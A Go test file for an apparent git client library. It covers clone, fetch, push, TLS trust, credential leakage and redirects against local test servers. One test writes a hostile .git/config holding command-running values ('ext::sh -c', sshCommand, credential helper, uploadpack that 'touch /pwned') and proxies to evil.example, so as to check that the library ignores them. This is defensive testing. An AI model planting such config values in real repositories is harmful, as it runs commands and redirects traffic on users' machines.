package gitops

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/cgi"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/belljar-dev/belljar/internal/localca"
	"github.com/belljar-dev/belljar/vfs"
)

// forge serves the repositories of a folder by git's own http-backend.
type forge struct {
	t      testing.TB
	dir    string
	url    string
	access Access
	mu     sync.Mutex
	dials  []string
	auth   string // what is wanted as Authorization, if anything is
}

func (f *forge) DialContext(ctx context.Context, network, address string) (net.Conn, error) {
	f.mu.Lock()
	f.dials = append(f.dials, address)
	f.mu.Unlock()
	var d net.Dialer
	return d.DialContext(ctx, network, address)
}

func newForge(t testing.TB, secure bool) *forge {
	t.Helper()
	path, err := exec.LookPath("git")
	if err != nil {
		t.Skip("needs git to serve")
	}
	f := &forge{t: t, dir: t.TempDir()}
	backend := &cgi.Handler{Path: path, Args: []string{"http-backend"}, Env: []string{
		"GIT_PROJECT_ROOT=" + f.dir, "GIT_HTTP_EXPORT_ALL=1", "REMOTE_USER=u", "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null"}, Stderr: io.Discard}
	handler := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if f.auth != "" && r.Header.Get("Authorization") != f.auth {
			w.Header().Set("WWW-Authenticate", "Basic realm=x")
			w.WriteHeader(http.StatusUnauthorized)
			return
		}
		backend.ServeHTTP(w, r)
	})
	server := httptest.NewUnstartedServer(handler)
	if secure {
		ca := localca.New(t)
		server.TLS = &tls.Config{Certificates: []tls.Certificate{ca.Server(t, "127.0.0.1", time.Now().Add(time.Hour))}}
		server.StartTLS()
		f.access.Roots = ca.Pool
	} else {
		server.Start()
	}
	t.Cleanup(server.Close)
	f.url, f.access.Dialer = server.URL, f
	return f
}

func (f *forge) git(args ...string) string {
	f.t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = f.dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1",
		"GIT_AUTHOR_NAME=A U Thor", "GIT_AUTHOR_EMAIL=author@example.com", "GIT_AUTHOR_DATE=1700000000 +0000",
		"GIT_COMMITTER_NAME=A U Thor", "GIT_COMMITTER_EMAIL=author@example.com", "GIT_COMMITTER_DATE=1700000000 +0000")
	out, err := cmd.CombinedOutput()
	if err != nil {
		f.t.Fatalf("git %q: %v\n%s", args, err, out)
	}
	return string(out)
}

// seed makes x.git, bare, with commits, a branch and tags, and work beside it.
func (f *forge) seed(commits int) {
	f.t.Helper()
	f.git("init", "-q", "-b", "main", "work")
	for i := range commits {
		name := fmt.Sprintf("work/d%d/f%d", i%3, i)
		if err := os.MkdirAll(filepath.Dir(filepath.Join(f.dir, name)), 0o777); err != nil {
			f.t.Fatal(err)
		}
		text := strings.Repeat(fmt.Sprintf("line of %d\n", i/2), 200) + fmt.Sprint(i)
		if err := os.WriteFile(filepath.Join(f.dir, name), []byte(text), 0o666); err != nil {
			f.t.Fatal(err)
		}
		f.git("-C", "work", "add", "-A")
		f.git("-C", "work", "commit", "-qm", fmt.Sprint("commit ", i))
	}
	f.git("-C", "work", "branch", "side", "HEAD~1")
	f.git("-C", "work", "tag", "light", "HEAD~2")
	f.git("-C", "work", "tag", "-am", "annotated", "v1", "HEAD~1")
	f.git("clone", "-q", "--bare", "work", "x.git")
	f.git("-C", "x.git", "config", "http.receivepack", "true")
	f.git("-C", "x.git", "gc", "-q")
}

func (f *forge) config() Config {
	c := who
	c.Access = f.access
	return c
}

func (f *forge) clone(o CloneOptions) (*vfs.Tree, *Repository) {
	f.t.Helper()
	tr := vfs.New(vfs.Config{})
	f.t.Cleanup(func() { tr.Close() })
	r, err := Clone(ctx, tr, f.url+"/x.git", "copy", f.config(), o)
	if err != nil {
		f.t.Fatal(err)
	}
	return tr, r
}

// export writes a repository of a tree to the host's file system, for git to look at.
func (f *forge) export(tr *vfs.Tree, name string) string {
	f.t.Helper()
	to := f.t.TempDir()
	if err := copyOut(tr, name, to); err != nil {
		f.t.Fatal(err)
	}
	return to
}

func copyOut(tr *vfs.Tree, from, to string) error {
	dir, err := tr.Open(from)
	if err != nil {
		return err
	}
	defer dir.Close()
	infos, err := dir.Readdir(-1)
	if err != nil {
		return err
	}
	for _, i := range infos {
		src, dst := from+"/"+i.Name(), filepath.Join(to, i.Name())
		if i.IsDir() {
			if err := errors.Join(os.MkdirAll(dst, 0o777), copyOut(tr, src, dst)); err != nil {
				return err
			}
			continue
		}
		b, err := tr.ReadFile(src)
		if err != nil {
			return err
		}
		if err := os.WriteFile(dst, b, i.Mode().Perm()|0o600); err != nil {
			return err
		}
	}
	return nil
}

func TestCloneOverHTTP(t *testing.T) {
	for _, secure := range []bool{false, true} {
		f := newForge(t, secure)
		f.seed(12)
		tr, r := f.clone(CloneOptions{})
		s, err := r.Status(ctx, StatusOptions{})
		must(t, err)
		if len(s.Entries) > 0 || s.Branch != "main" || s.Upstream != "origin/main" {
			t.Errorf("%+v", s)
		}
		out := f.export(tr, "copy")
		f.git("-C", out, "fsck", "--strict")
		for _, args := range [][]string{{"log", "--format=%H %s", "--all"}, {"rev-parse", "v1", "light", "origin/side", "HEAD"}, {"ls-tree", "-r", "HEAD"}} {
			got := f.git(append([]string{"-C", out}, args...)...)
			want := f.git(append([]string{"-C", "work"}, strings.Split(strings.ReplaceAll(strings.Join(args, "|"), "origin/side", "side"), "|")...)...)
			if got != want {
				t.Errorf("%q: %s\nwant %s", args, got, want)
			}
		}
		if got := f.git("-C", out, "status", "--porcelain=v2", "--branch"); strings.Contains(got, "\n1 ") || !strings.Contains(got, "origin/main") {
			t.Error(got)
		}
	}
}

func TestCloneOptions(t *testing.T) {
	f := newForge(t, false)
	f.seed(9)
	count := func(r *Repository) int {
		l, err := r.Log(ctx, LogOptions{})
		must(t, err)
		return len(l)
	}
	_, r := f.clone(CloneOptions{Depth: 3})
	if n := count(r); n != 3 {
		t.Errorf("depth 3 has %d commits", n)
	}
	_, err := r.Fetch(ctx, FetchOptions{Depth: 5})
	must(t, err)
	if n := count(r); n != 5 {
		t.Errorf("deepened to 5 it has %d commits", n)
	}
	tr, r := f.clone(CloneOptions{Branch: "side", SingleBranch: true})
	if bs, err := r.Branches(ctx, true); err != nil || len(bs) != 1 || bs[0].Name != "origin/side" {
		t.Errorf("%v, %v", bs, err)
	}
	if b, err := tr.ReadFile("copy/.git/HEAD"); string(b) != "ref: refs/heads/side\n" {
		t.Errorf("%q, %v", b, err)
	}
	_, r = f.clone(CloneOptions{Branch: "v1"})
	if s, err := r.Status(ctx, StatusOptions{}); err != nil || s.Branch != "" {
		t.Errorf("%+v, %v", s, err)
	}
	old := strings.TrimSpace(f.git("-C", "work", "rev-parse", "HEAD~5"))
	_, r = f.clone(CloneOptions{Commit: old})
	if h, err := r.Resolve(ctx, "HEAD"); err != nil || h != old || count(r) != 4 {
		t.Errorf("%s, %v", h, err)
	}
	tr, r = f.clone(CloneOptions{Sparse: []string{"d1"}})
	if s, err := r.Status(ctx, StatusOptions{}); err != nil || len(s.Entries) > 0 {
		t.Errorf("sparse: %+v, %v", s, err)
	}
	if _, err := tr.Stat("copy/d1/f1"); err != nil {
		t.Error(err)
	}
	if _, err := tr.Stat("copy/d0/f0"); err == nil {
		t.Error("sparse: d0 is there")
	}
	_, r = f.clone(CloneOptions{Bare: true})
	if bs, err := r.Branches(ctx, false); err != nil || len(bs) != 2 {
		t.Errorf("%v, %v", bs, err)
	}
	for _, o := range []CloneOptions{{Branch: "none"}, {Commit: strings.Repeat("12", 20)}} {
		tr := vfs.New(vfs.Config{})
		if _, err := Clone(ctx, tr, f.url+"/x.git", "copy", f.config(), o); err == nil {
			t.Errorf("%+v is cloned", o)
		}
		if _, err := tr.Stat("copy"); err == nil {
			t.Error("a failed clone was left behind")
		}
		tr.Close()
	}
	if _, err := Clone(ctx, vfs.New(vfs.Config{}), f.url+"/none.git", "copy", f.config(), CloneOptions{}); !errors.Is(err, ErrNotRepository) {
		t.Errorf("no repository: %v", err)
	}
}

func TestFetchPullPush(t *testing.T) {
	for name, secure := range map[string]bool{"http": false, "https": true} {
		t.Run(name, func(t *testing.T) { fetchPullPush(t, newForge(t, secure)) })
	}
}

func fetchPullPush(t *testing.T, f *forge) {
	f.seed(5)
	tr, r := f.clone(CloneOptions{})
	other := func(file, message string) string {
		must(t, os.WriteFile(filepath.Join(f.dir, "work", file), []byte(message), 0o666))
		f.git("-C", "work", "add", "-A")
		f.git("-C", "work", "commit", "-qm", message)
		f.git("-C", "work", "push", "-q", "../x.git", "main")
		return strings.TrimSpace(f.git("-C", "work", "rev-parse", "HEAD"))
	}
	// Push.
	write(t, tr, "copy/mine", "mine\n")
	first := commitAll(t, r, "mine")
	done, err := r.Push(ctx, PushOptions{})
	must(t, err)
	if got := strings.TrimSpace(f.git("-C", "x.git", "rev-parse", "main")); got != first || len(done.Changes) != 1 || done.Changes[0].New != first {
		t.Fatalf("the server has %s, %+v", got, done)
	}
	if done, err = r.Push(ctx, PushOptions{}); err != nil || len(done.Changes) != 0 {
		t.Errorf("again: %+v, %v", done, err)
	}
	f.git("-C", "x.git", "fsck", "--strict")
	// Pull: fast-forward, then a merge, then a rebase.
	f.git("-C", "work", "pull", "-q", "../x.git", "main")
	theirs := other("theirs", "theirs")
	m, err := r.Pull(ctx, PullOptions{})
	must(t, err)
	if !m.FastForwarded || m.Hash != theirs {
		t.Errorf("%+v, want %s", m, theirs)
	}
	write(t, tr, "copy/mine2", "mine\n")
	commitAll(t, r, "mine 2")
	theirs = other("theirs2", "theirs 2")
	if _, err := r.Push(ctx, PushOptions{}); !errors.Is(err, ErrNotForward) {
		t.Errorf("push of what is behind: %v", err)
	}
	if _, err := r.Pull(ctx, PullOptions{FastForward: FastForwardOnly}); !errors.Is(err, ErrNotForward) {
		t.Errorf("pull --ff-only: %v", err)
	}
	m, err = r.Pull(ctx, PullOptions{Rebase: true})
	must(t, err)
	if l, err := r.Log(ctx, LogOptions{Max: 2}); err != nil || l[0].Hash != m.Hash || l[1].Hash != theirs {
		t.Errorf("%+v, %v", l, err)
	}
	write(t, tr, "copy/mine3", "mine\n")
	commitAll(t, r, "mine 3")
	f.git("-C", "work", "fetch", "-q", "../x.git", "main")
	other("theirs3", "theirs 3")
	m, err = r.Pull(ctx, PullOptions{})
	must(t, err)
	if s, err := r.Show(ctx, "HEAD"); err != nil || len(s.Commit.Parents) != 2 || !strings.HasPrefix(s.Commit.Message, "Merge branch 'main' of "+f.url) {
		t.Errorf("%+v, %v", s.Commit, err)
	}
	if _, err = r.Push(ctx, PushOptions{Refspecs: []string{"HEAD:refs/heads/new", "light:refs/tags/again"}, SetUpstream: true}); err != nil {
		t.Fatal(err)
	}
	if _, err := r.Push(ctx, PushOptions{Refspecs: []string{":refs/tags/again"}}); err != nil {
		t.Fatal(err)
	}
	if got := f.git("-C", "x.git", "for-each-ref", "--format=%(refname)"); strings.Contains(got, "again") || !strings.Contains(got, "refs/heads/new") {
		t.Error(got)
	}
	f.git("-C", "x.git", "fsck", "--strict")
	f.git("-C", f.export(tr, "copy"), "fsck", "--strict")
}

func TestForceWithLease(t *testing.T) {
	f := newForge(t, false)
	f.seed(3)
	_, r := f.clone(CloneOptions{})
	must(t, r.Reset(ctx, "HEAD~1", ResetHard))
	if _, err := r.Push(ctx, PushOptions{}); !errors.Is(err, ErrNotForward) {
		t.Errorf("without force: %v", err)
	}
	f.git("-C", "work", "commit", "-q", "--allow-empty", "-m", "meanwhile")
	f.git("-C", "work", "push", "-q", "../x.git", "main")
	if _, err := r.Push(ctx, PushOptions{Lease: true}); !errors.Is(err, ErrStale) {
		t.Errorf("with a stale lease: %v", err)
	}
	if _, err := r.Push(ctx, PushOptions{Expect: map[string]string{"refs/heads/main": ""}}); !errors.Is(err, ErrStale) {
		t.Errorf("with a wrong expectation: %v", err)
	}
	_, err := r.Fetch(ctx, FetchOptions{})
	must(t, err)
	if _, err := r.Push(ctx, PushOptions{Lease: true}); err != nil {
		t.Error(err)
	}
	if _, err := r.Fetch(ctx, FetchOptions{Refspecs: []string{"none"}}); !errors.Is(err, ErrNotFound) {
		t.Errorf("a branch that isn't there: %v", err)
	}
	// A server that refuses.
	must(t, os.WriteFile(filepath.Join(f.dir, "x.git/hooks/update"), []byte("#!/bin/sh\nexit 1\n"), 0o777))
	_, err = r.Push(ctx, PushOptions{Refspecs: []string{"HEAD:refs/heads/other"}})
	if !errors.Is(err, ErrRejected) || !strings.Contains(err.Error(), "hook declined") {
		t.Errorf("refused: %v", err)
	}
}

// TestAuthorities has servers that Access.Roots don't vouch for.
func TestAuthorities(t *testing.T) {
	f := newForge(t, true)
	f.seed(3)
	known := f.access.Roots
	for _, c := range []struct {
		name  string
		roots *x509.CertPool
		url   string
		ok    bool
	}{
		{"its own", known, f.url, true},
		{"the host's", nil, f.url, false},
		{"another", localca.New(t).Pool, f.url, false},
		{"none", x509.NewCertPool(), f.url, false},
		{"another name", known, strings.Replace(f.url, "127.0.0.1", "localhost", 1), false},
	} {
		t.Run(c.name, func(t *testing.T) {
			cfg := f.config()
			cfg.Access.Roots = c.roots
			cfg.Access.Credentials = map[string]Credential{strings.TrimPrefix(c.url, "https://"): {User: "u", Password: "never sent"}}
			tr := vfs.New(vfs.Config{})
			defer tr.Close()
			_, err := Clone(ctx, tr, c.url+"/x.git", "copy", cfg, CloneOptions{})
			var refused *tls.CertificateVerificationError
			if (err == nil) != c.ok || err != nil && !errors.As(err, &refused) {
				t.Errorf("%v", err)
			}
			if _, err := tr.Stat("copy"); (err == nil) != c.ok {
				t.Errorf("the folder: %v", err)
			}
		})
	}
}

func TestFetchPrunesAndTags(t *testing.T) {
	f := newForge(t, false)
	f.seed(4)
	_, r := f.clone(CloneOptions{})
	f.git("-C", "x.git", "branch", "-D", "side")
	f.git("-C", "x.git", "tag", "late", "main")
	got, err := r.Fetch(ctx, FetchOptions{Prune: true})
	must(t, err)
	if len(got.Changes) != 2 || got.Changes[0].Name != "refs/tags/late" || got.Changes[1].Name != "refs/remotes/origin/side" || got.Changes[1].New != "" {
		t.Errorf("%+v", got)
	}
}

// TestCredentials are sent to whom they are for, and are in no file, no error and no progress.
func TestCredentials(t *testing.T) {
	const secret = "s3cr3t-t0ken"
	f := newForge(t, true)
	f.seed(3)
	f.auth = "Basic dXNlcjpzM2NyM3QtdDBrZW4=" // user:s3cr3t-t0ken
	host := strings.TrimPrefix(f.url, "https://")
	var heard strings.Builder
	f.access.Progress = func(p Progress) { fmt.Fprintln(&heard, p) }
	try := func(url string, creds map[string]Credential) (*vfs.Tree, error) {
		tr := vfs.New(vfs.Config{})
		t.Cleanup(func() { tr.Close() })
		c := f.config()
		c.Access.Credentials = creds
		r, err := Clone(ctx, tr, url+"/x.git", "copy", c, CloneOptions{})
		if err == nil {
			_, err = r.Fetch(ctx, FetchOptions{})
		}
		if err != nil && strings.Contains(err.Error(), secret) {
			t.Errorf("an error tells it: %v", err)
		}
		return tr, err
	}
	good := Credential{User: "user", Password: secret}
	for _, creds := range []map[string]Credential{nil, {"example.com": good}, {"127.0.0.1": good}, {host: {User: "user", Password: "wrong" + secret}}} {
		if _, err := try(f.url, creds); !errors.Is(err, ErrAuth) {
			t.Errorf("%v: %v", len(creds), err)
		}
	}
	tr, err := try(f.url, map[string]Credential{host: good})
	must(t, err)
	tr2, err := try("https://user:"+secret+"@"+host, nil)
	if !errors.Is(err, ErrAuth) { // it clones, and the password isn't kept for the fetch
		t.Error(err)
	}
	for _, tr := range []*vfs.Tree{tr, tr2} {
		out := f.export(tr, "copy")
		grep := exec.Command("grep", "-r", secret, out)
		if b, err := grep.CombinedOutput(); err == nil {
			t.Errorf("it is in a file: %s", b)
		}
	}
	if strings.Contains(heard.String(), secret) {
		t.Error("progress tells it")
	}
}

// A redirect to another server goes through the dialler, and takes no credentials along.
func TestRedirect(t *testing.T) {
	f := newForge(t, false)
	f.seed(3)
	var leaked string
	spy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		leaked += r.Header.Get("Authorization")
		http.Redirect(w, r, f.url+strings.TrimPrefix(r.URL.RequestURI(), "/moved"), http.StatusFound)
	}))
	defer spy.Close()
	first := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") == "" {
			t.Error("the first server got no credentials")
		}
		http.Redirect(w, r, spy.URL+"/moved"+r.URL.RequestURI(), http.StatusFound)
	}))
	defer first.Close()
	c := f.config()
	c.Access.Credentials = map[string]Credential{strings.TrimPrefix(first.URL, "http://"): {User: "u", Password: "p", Plain: true}}
	tr := vfs.New(vfs.Config{})
	defer tr.Close()
	_, err := Clone(ctx, tr, first.URL+"/x.git", "copy", c, CloneOptions{})
	must(t, err)
	if leaked != "" {
		t.Errorf("credentials went along: %s", leaked)
	}
	if want := strings.TrimPrefix(f.url, "http://"); !strings.Contains(strings.Join(f.dials, " "), want) {
		t.Errorf("the redirect was not dialled: %v", f.dials)
	}
	// Where the dialler refuses, nothing is reached.
	c.Access.Dialer = only(strings.TrimPrefix(first.URL, "http://"))
	if _, err := Clone(ctx, tr, first.URL+"/x.git", "other", c, CloneOptions{}); !errors.Is(err, os.ErrPermission) {
		t.Errorf("a redirect to where nothing may be: %v", err)
	}
}

// only dials one address.
type only string

func (o only) DialContext(ctx context.Context, network, address string) (net.Conn, error) {
	if address != string(o) {
		return nil, os.ErrPermission
	}
	var d net.Dialer
	return d.DialContext(ctx, network, address)
}

// TestConfigChangesNoTransport has a repository whose config would lead git elsewhere.
func TestConfigChangesNoTransport(t *testing.T) {
	f := newForge(t, false)
	f.seed(3)
	tr, _ := f.clone(CloneOptions{})
	b, err := tr.ReadFile("copy/.git/config")
	must(t, err)
	write(t, tr, "copy/.git/config", string(b)+`[url "ext::sh -c touch% /pwned "]
	insteadOf = http://
[http]
	proxy = http://evil.example:3128
	sslVerify = false
[core]
	sshCommand = touch /pwned
	gitProxy = touch /pwned
[credential]
	helper = "!touch /pwned"
[remote "origin"]
	uploadpack = touch /pwned
	proxy = http://evil.example:3128
[protocol "ext"]
	allow = always
`)
	r, err := Open(tr, "copy", f.config())
	must(t, err)
	f.dials = nil
	_, err = r.Fetch(ctx, FetchOptions{})
	must(t, err)
	for _, d := range f.dials {
		if "http://"+d != f.url {
			t.Errorf("dialled %s", d)
		}
	}
}

// A git daemon, and SSH as far as git itself is: its protocol over a stream.
func TestCloneOverStream(t *testing.T) {
	f := newForge(t, false)
	f.seed(6)
	l, err := net.Listen("tcp", "127.0.0.1:0")
	must(t, err)
	defer l.Close()
	go func() { // ends with the listener
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			go func() { // ends with the connection
				defer conn.Close()
				head := make([]byte, 4)
				io.ReadFull(conn, head)
				var n int
				fmt.Sscanf(string(head), "%04x", &n)
				line := make([]byte, n-4)
				io.ReadFull(conn, line)
				service, rest, _ := strings.Cut(string(line), " ")
				path, _, _ := strings.Cut(rest, "\x00")
				cmd := exec.Command("git", strings.TrimPrefix(service, "git-"), filepath.Join(f.dir, path))
				cmd.Stdin, cmd.Stdout = conn, conn
				cmd.Run()
			}()
		}
	}()
	tr := vfs.New(vfs.Config{})
	defer tr.Close()
	url := "git://" + l.Addr().String() + "/x.git"
	r, err := Clone(ctx, tr, url, "copy", f.config(), CloneOptions{Depth: 2})
	must(t, err)
	if l, err := r.Log(ctx, LogOptions{}); err != nil || len(l) != 2 {
		t.Errorf("%v, %v", l, err)
	}
	r, err = Clone(ctx, tr, url, "whole", f.config(), CloneOptions{})
	must(t, err)
	write(t, tr, "whole/new", "x\n")
	h := commitAll(t, r, "pushed")
	if _, err := r.Push(ctx, PushOptions{}); err != nil {
		t.Fatal(err)
	}
	if got := strings.TrimSpace(f.git("-C", "x.git", "rev-parse", "main")); got != h {
		t.Errorf("the server has %s", got)
	}
}

func TestProgressAndCancel(t *testing.T) {
	f := newForge(t, false)
	f.seed(3)
	phases := map[string]bool{}
	f.access.Progress = func(p Progress) { phases[p.Phase] = true }
	f.clone(CloneOptions{})
	for _, want := range []string{"receive", "resolve", "remote"} {
		if !phases[want] {
			t.Errorf("no progress of %q: %v", want, phases)
		}
	}
	done, cancel := context.WithCancel(ctx)
	cancel()
	tr := vfs.New(vfs.Config{})
	defer tr.Close()
	if _, err := Clone(done, tr, f.url+"/x.git", "copy", f.config(), CloneOptions{}); !errors.Is(err, context.Canceled) {
		t.Errorf("cancelled: %v", err)
	}
}
